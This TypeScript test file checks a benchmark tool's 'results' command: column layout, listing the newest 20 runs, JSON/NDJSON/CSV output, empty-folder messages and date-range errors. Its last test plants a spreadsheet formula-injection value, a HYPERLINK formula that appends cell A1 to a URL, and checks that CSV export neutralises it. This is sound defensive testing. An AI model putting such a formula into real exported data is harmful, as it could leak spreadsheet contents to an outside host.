import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { addResultsCommand } from '../../src/commands/results.js';
import { addTagCommand } from '../../src/commands/tag.js';
import { dataFolder, layRun, summaryOf } from '../history/history-fixture.js';
import { runVerb } from './run-verb.js';

/** One run a minute on the first of a month. */
function idsOf(count: number): string[] {
  return Array.from({ length: count }, (_, index) => `20260101-00${String(index).padStart(2, '0')}00-aaaa`);
}

async function folderWith(count: number) {
  const folder = await dataFolder();
  for (const id of idsOf(count)) await layRun(folder.dataDir, summaryOf(id));
  return folder;
}

const results = (dataDir: string, ...argv: string[]) => runVerb(addResultsCommand, dataDir, ['results', ...argv]);

describe('results', () => {
  it('gives what a run is about the room that the other columns leave', async () => {
    await using folder = await folderWith(2);
    const { dataDir } = folder;
    const [, newest] = idsOf(2);
    await runVerb(addTagCommand, dataDir, ['tag', newest ?? '', 'nightly', '--note', 'before the new driver']);
    const { output } = await results(dataDir);
    // Two blanks behind the widest cell of each column, and the heads above the first letters.
    const [head = '', first = ''] = output.split('\n');
    expect(first.indexOf('#nightly')).toBe(head.indexOf('WHAT'));
    expect(head).toMatch(/CASES {2}TIME/);
  });

  it('lists the newest for people, says that there are more, and gives all to who asks for a time', async () => {
    await using folder = await folderWith(22);
    const { dataDir } = folder;
    const { output } = await results(dataDir);
    expect(output.match(/-aaaa/g)).toHaveLength(20);
    expect(output).toContain('The newest 20 of 22 runs; all of them: acode benchmark results --last 22\n');
    const asked = await results(dataDir, '--from', '2025-12-31', '--to', '2026-01-02');
    expect(asked.output.match(/-aaaa/g)).toHaveLength(22);
    expect(asked.output).not.toContain('newest');
    expect((await results(dataDir, '--from', '2025-12-31', '--last', '3')).output.match(/-aaaa/g)).toHaveLength(3);
  });

  it('keeps no run from a program', async () => {
    await using folder = await folderWith(22);
    const { dataDir } = folder;
    const json = JSON.parse((await results(dataDir, '--json')).output) as { runs: unknown[] };
    expect(json.runs).toHaveLength(22);
    expect((await results(dataDir, '--ndjson')).output.trimEnd().split('\n')).toHaveLength(22);
    expect(parse((await results(dataDir, '--csv')).output, { columns: true })).toHaveLength(22);
  });

  it('tells an empty folder from a question that no run fits', async () => {
    await using folder = await folderWith(1);
    const { dataDir } = folder;
    expect((await results(dataDir, '--tag', 'none')).output).toBe(`None of the 1 runs in ${dataDir} fits.\n`);
    await using empty = await dataFolder();
    expect((await results(empty.dataDir)).output).toBe(`There are no runs in ${empty.dataDir}.\n`);
  });

  it('refuses a time that ends before it begins', async () => {
    await using folder = await folderWith(1);
    await expect(results(folder.dataDir, '--from', '2026-01-02', '--to', '2026-01-01')).rejects.toMatchObject({
      exitCode: 2,
      message: '--from 2026-01-02 lies behind --to 2026-01-01.',
    });
  });

  it('writes names and notes so that no spreadsheet runs them', async () => {
    await using folder = await dataFolder();
    const { dataDir } = folder;
    const name = '=HYPERLINK("http://x/?"&A1,"a,b")';
    await layRun(dataDir, summaryOf('20260101-000000-aaaa', { targets: [{ name, fingerprint: 'f' }] }));
    await runVerb(addTagCommand, dataDir, ['tag', 'last', '--note', '+1;=1+1']);
    const [row] = parse((await results(dataDir, '--csv')).output, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ targets: `'${name}`, note: `'+1;'=1+1`, outstanding: '0' });
  });
});
